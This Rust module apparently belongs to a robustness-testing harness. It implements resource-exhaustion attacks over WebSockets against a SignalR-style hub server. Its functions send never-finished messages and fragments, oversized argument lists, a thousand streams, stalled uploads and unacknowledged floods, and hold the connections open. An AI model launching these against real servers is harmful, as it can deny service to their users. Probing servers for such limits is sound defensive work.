//! Attacks over WebSockets: messages that do not end, and whole ones that cost more than they are long.

use anyhow::{Result, bail};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::Held;
use super::inputs::{
    LONGEST, NUMBER, OBJECT, PATIENCE, Sips, binary, call, list_call, packed_call, shove, shove_all, slow_call, text,
    text_call,
};
use crate::frames::masked;
use crate::http::{Door, exchange};

pub(super) const JSON: &str = "{\"protocol\":\"json\",\"version\":1}\u{1e}";
const MESSAGEPACK: &str = "{\"protocol\":\"messagepack\",\"version\":1}\u{1e}";
/// Of a client that may come back.
const STATEFUL: &str = "{\"protocol\":\"json\",\"version\":2}\u{1e}";

/// The longest WebSocket message of `hub-protocol`, which may hold several records.
const LONGEST_MESSAGE: usize = LONGEST + 64 * 1024;
/// More streams than any server needs to take.
const STREAMS: usize = 1_000;

/// A connection whose handshake is done; the system takes little for a client that does not read.
pub(super) async fn open(door: &Door, negotiation: &str, handshake: &str) -> Result<TcpStream> {
    let id = door.negotiate_with(negotiation).await?;
    let mut stream = door.connect_narrowly().await?;
    let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    let (head, _) = exchange(&mut stream, &door.request("GET", &format!("?id={id}"), upgrade, "")).await?;
    if !head.starts_with("HTTP/1.1 101 ") {
        bail!("the upgrade was answered with {head}");
    }
    stream.write_all(&text(handshake.as_bytes())).await?;
    let mut answer = [0; 5];
    stream.read_exact(&mut answer).await?;
    // The answer is text, in a frame of the protocol's kind.
    if !matches!(answer, [0x81 | 0x82, 3, b'{', b'}', 0x1e]) {
        bail!("the handshake was answered with {answer:?}");
    }
    Ok(stream)
}

pub(super) async fn message(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    let whole = text(text_call("Echo", "").as_bytes());
    stream.write_all(&whole[..whole.len() - 1]).await?;
    Ok(Held(vec![stream]))
}

pub(super) async fn fragments(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    stream.write_all(&text(slow_call().as_bytes())).await?;
    // One byte less than stops the server from reading on.
    let waits = text_call("Echo", "").repeat(2);
    stream.write_all(&text(&waits.as_bytes()[..waits.len() - 1])).await?;
    let mut unending = Vec::new();
    masked(0x01, &[b' '; LONGEST_MESSAGE - 1], &mut unending);
    // Too long only when it is whole, which it is not.
    masked(0x00, &[b' '; LONGEST_MESSAGE], &mut unending);
    shove(&mut stream, &unending[..unending.len() - 1]).await?;
    Ok(Held(vec![stream]))
}

pub(super) async fn record(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    let texts = vec!["\"\""; 10_000].join(",");
    let typed = call("1", "EchoComplex", &format!("{{\"Tags\":[{texts}]}}"));
    for record in [
        list_call("EchoJson", "", OBJECT),
        list_call("EchoJson", "", "[]"),
        typed,
    ] {
        stream.write_all(&text(record.as_bytes())).await?;
    }
    Ok(Held(vec![stream]))
}

pub(super) async fn held_json(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    shove_all(&mut stream, &text(list_call("CallMe", "\"m\",", OBJECT).as_bytes())).await?;
    Ok(Held(vec![stream]))
}

pub(super) async fn held_messagepack(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", MESSAGEPACK).await?;
    shove_all(&mut stream, &binary(&packed_call())).await?;
    Ok(Held(vec![stream]))
}

pub(super) async fn answers(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    shove_all(&mut stream, &text(list_call("EchoJson", "", NUMBER).as_bytes())).await?;
    Ok(Held(vec![stream]))
}

/// As many of the shortest calls as fit into a message.
fn crumbs_of_calls() -> Vec<u8> {
    let call = call("1", "Nothing", "");
    text(call.repeat(LONGEST / call.len()).as_bytes())
}

pub(super) async fn small(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    shove_all(&mut stream, &crumbs_of_calls()).await?;
    Ok(Held(vec![stream]))
}

pub(super) async fn streams(door: &Door, id_length: usize) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    let mut sips = Sips::new();
    for number in 0..STREAMS {
        let id = format!("{number:0id_length$}");
        let record =
            format!("{{\"type\":4,\"invocationId\":\"{id}\",\"target\":\"Counter\",\"arguments\":[1,600000]}}\u{1e}");
        if !sips.shove(&mut stream, &text(record.as_bytes())).await? {
            break;
        }
    }
    Ok(Held(vec![stream]))
}

pub(super) async fn uploads(door: &Door) -> Result<Held> {
    let mut stream = open(door, "", JSON).await?;
    let item = "x".repeat(LONGEST - 100);
    for number in 0..STREAMS / 2 {
        // The first is not ended, so nobody reads the second.
        let mut records = format!(
            "{{\"type\":1,\"target\":\"SumTwo\",\"arguments\":[0],\"streamIds\":[\"a{number}\",\"b{number}\"]}}\u{1e}"
        );
        shove(&mut stream, &text(records.as_bytes())).await?;
        records = format!("{{\"type\":2,\"invocationId\":\"b{number}\",\"item\":\"{item}\"}}\u{1e}");
        let record = text(records.as_bytes());
        for _ in 0..10 {
            if !shove(&mut stream, &record).await? {
                return Ok(Held(vec![stream]));
            }
        }
    }
    Ok(Held(vec![stream]))
}

/// It reads what it is asked, so that there is room for the next question.
pub(super) async fn questions(door: &Door) -> Result<Held> {
    let stream = open(door, "", JSON).await?;
    let mut held = Held(vec![stream]);
    let record = text(call("1", "AskMe", "\"\"").as_bytes());
    for _ in 0..STREAMS {
        if !shove(&mut held.0[0], &record).await? || !held.sip() {
            break;
        }
        while held.0[0].try_read(&mut [0; 16 * 1024]).is_ok_and(|read| read > 0) {}
    }
    Ok(held)
}

const STATEFULLY: &str = "&useStatefulReconnect=true";

pub(super) async fn unacknowledged(door: &Door) -> Result<Held> {
    let mut stream = open(door, STATEFULLY, STATEFUL).await?;
    // As much as may be owed, and then the longest answer on top.
    for _ in 0..3 {
        shove(&mut stream, &text(text_call("Echo", "").as_bytes())).await?;
    }
    shove_all(&mut stream, &text(list_call("EchoJson", "", NUMBER).as_bytes())).await?;
    drop(stream);
    Ok(Held(vec![]))
}

pub(super) async fn crumbs(door: &Door) -> Result<Held> {
    let mut stream = open(door, STATEFULLY, STATEFUL).await?;
    shove_all(&mut stream, &crumbs_of_calls()).await?;
    drop(stream);
    Ok(Held(vec![]))
}

pub(super) async fn group(door: &Door) -> Result<Held> {
    let mut stream = open(door, STATEFULLY, STATEFUL).await?;
    // Nobody else is in it: what waits is shared with nobody. The answer to the first has the connection's id.
    stream
        .write_all(&text(call("id", "ConnectionId", "").as_bytes()))
        .await?;
    let mut answer = [0; 256];
    let read = stream.read(&mut answer).await?;
    let answer = String::from_utf8_lossy(&answer[..read]).into_owned();
    let own = answer
        .split("\"result\":\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next());
    let own = own.unwrap_or(&answer);
    stream
        .write_all(&text(call("join", "JoinGroup", &format!("\"{own}\"")).as_bytes()))
        .await?;
    let message = text(text_call("ToGroup", &format!("\"{own}\",")).as_bytes());
    let mut heard = vec![0; 16 * 1024];
    for _ in 0..GROUP_MESSAGES {
        shove(&mut stream, &message).await?;
        // It hears all that is sent before it acknowledges; what comes then waits.
        while let Ok(read) = timeout(PATIENCE, stream.read(&mut heard)).await {
            if read? == 0 {
                bail!("the server has given it up");
            }
        }
    }
    drop(stream);
    Ok(Held(vec![]))
}

/// As many as are kept for a client that acknowledges nothing and wait for it, before it is given up.
const GROUP_MESSAGES: usize = 6;
